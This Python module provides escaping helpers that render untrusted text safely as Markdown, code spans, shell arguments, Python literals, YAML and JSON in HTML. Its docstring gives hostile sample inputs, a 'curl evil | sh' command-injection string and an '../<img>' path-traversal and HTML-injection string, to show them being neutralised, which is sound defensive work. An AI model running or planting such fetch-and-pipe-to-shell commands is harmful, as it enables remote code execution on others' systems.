"""Strangers' text on a page, as text: in Markdown, in a code span or block, on a command line, in an address.

    markdown("../<img src=x>")  -> ../&lt;img src=x>
    code("a`b|c")               -> ``a`b\\|c``
    shell("m; curl evil | sh")  -> 'm; curl evil | sh'

Everything here returns `Markup`: jinja2's word for "this is ours, take it as it is". A template environment with
`markdown_environment` escapes whatever is not. Only what a Markdown parser would take for something else gets a
backslash, so that ordinary titles, identifiers and captions stay as they are.
"""

import json
import re
import shlex
import unicodedata
from pathlib import Path
from urllib.parse import urlsplit

import yaml
from jinja2 import Environment, FileSystemLoader, StrictUndefined
from markupsafe import Markup

_UNSEEN = ("Cc", "Cf", "Cs", "Co", "Cn")  # control, format (bidi, zero-width), surrogate, private, unassigned
_PUNCTUATION = r"!-/:-@\[-`{-~"  # ASCII punctuation: what a backslash takes its meaning from
_MEANT = re.compile(
    "|".join(
        (
            rf"(?P<backslash>\\(?=[{_PUNCTUATION}]|$))",
            r"(?P<tag><(?=[A-Za-z/!?]|$))",  # "p < 0.05" is none
            r"(?P<entity>&(?=#|[A-Za-z][A-Za-z0-9]*;))",
            r"(?P<sign>[`*|]"
            r"|\](?=[(\[:])|^\["  # a link's or a definition's; the brackets of "as in [12]" are none
            r"|(?<![^\W_])_|_(?![^\W_])"  # not of snake_case
            r"|(?<=\S)~"  # one that could close a strike-through; "~5 Gy" does not
            r"|:(?=//)|(?<=\bwww)\.|@(?=\w)"  # of an address, which would become a link
            r"|^[#>](?=[#>\s]|$)|^[-+=](?=[-+=\s]|$)|(?<=^\d)[.)](?=\s|$)|(?<=^\d\d)[.)](?=\s|$))",  # a block's start
        )
    ),
    re.IGNORECASE,
)
_ENTITIES = {"tag": "&lt;", "entity": "&amp;"}
EMPTY = "(empty)"
ONE_LINE = 2**31  # characters, of a text in YAML: none is broken


# ---- text


def visible(text: str) -> str:
    """The text on one line, without characters that nobody sees or that turn the direction of others."""
    flat = re.sub(r"\s+", " ", text)
    return "".join(char for char in flat if unicodedata.category(char) not in _UNSEEN)


def markdown(value: object) -> object:
    """Anything as text in a line or a table's cell of Markdown; `Markup` and numbers as they are."""
    if hasattr(value, "__html__") or isinstance(value, int | float):
        return value
    return Markup(_MEANT.sub(_escaped, visible(str(value))))


def _escaped(match: re.Match) -> str:
    return _ENTITIES.get(match.lastgroup or "", f"\\{match.group()}")


def code(value: object) -> Markup:
    """Anything as a Markdown code span, also in a table's cell."""
    text = visible(str(value)).strip() or EMPTY
    text = re.sub(r"(\\*)\|", r"\1\1\\|", text)  # a table takes the bar apart before anything else
    fence = "`" * (1 + _longest_run("`", text))
    space = " " if text.startswith("`") or text.endswith("`") else ""
    return Markup(f"{fence}{space}{text}{space}{fence}")


def block(text: str, language: str) -> Markup:
    """Lines as a fenced code block, which nothing in them can end."""
    lines = [visible_line(line) for line in text.splitlines()]
    fence = "`" * max(3, 1 + _longest_run("`", text))
    return Markup("\n".join([f"{fence}{language}", *lines, fence]))


def visible_line(line: str) -> str:
    """As `visible`, but spaces stay: of a code block."""
    return "".join(char for char in line if unicodedata.category(char) not in _UNSEEN)


def _longest_run(char: str, text: str) -> int:
    return max(map(len, re.findall(f"{re.escape(char)}+", text)), default=0)


# ---- code


def shell(value: object) -> Markup:
    """Anything as one word of a POSIX command line, quoted where it must be."""
    return Markup(shlex.quote(visible(str(value)).strip()))


def literal(value: object) -> Markup:
    """Anything as a string of Python, between double quotes."""
    return Markup(json.dumps(visible(str(value)).strip(), ensure_ascii=False))


def front_matter(value: dict) -> Markup:
    """A card's YAML block without its fences: no text in it, nor a line of one, can end the block."""
    return Markup(yaml.safe_dump(plain(value), sort_keys=False, allow_unicode=True, width=ONE_LINE))


def plain(value: object) -> object:
    """The value with every text in it on one line and visible."""
    if isinstance(value, dict):
        return {visible(str(name)): plain(inner) for name, inner in value.items()}
    if isinstance(value, list | tuple):
        return [plain(inner) for inner in value]
    return visible(value) if isinstance(value, str) else value


# ---- pages


def json_in_html(value: object) -> Markup:
    """JSON that can stand in a script element: no "<", so that nothing in it closes the element.

    Halves of characters, which no file in UTF-8 can hold, are escaped.
    """
    text = json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    text = re.sub("[\ud800-\udfff]", lambda half: f"\\u{ord(half.group()):04x}", text)
    return Markup(text.replace("<", "\\u003c").replace("\u2028", "\\u2028").replace("\u2029", "\\u2029"))


def is_relative_path(address: str) -> bool:
    """Whether an address is a path within the folder of the page: no scheme, no host, no way out."""
    parts = urlsplit(address.strip())
    path = address.replace("\\", "/")
    is_within = not path.startswith("/") and ".." not in path.split("/")
    return is_within and not parts.scheme and not parts.netloc and address == visible(address).strip()


def markdown_environment(templates: Path) -> Environment:
    """Templates of Markdown files in which every value is escaped that is no `Markup`.

    With the filters `code`, `shell` and `literal`; a variable that is not given is an error. No template may have "("
    or "[" right behind a value: that would make a link of a value in brackets.
    """
    made = Environment(
        loader=FileSystemLoader(templates),
        undefined=StrictUndefined,
        autoescape=True,  # macros and filters keep apart what is ours; `finalize` comes first and knows Markdown
        finalize=markdown,
        trim_blocks=True,
        lstrip_blocks=True,
        keep_trailing_newline=True,
    )
    made.filters |= {"code": code, "shell": shell, "literal": literal}
    return made
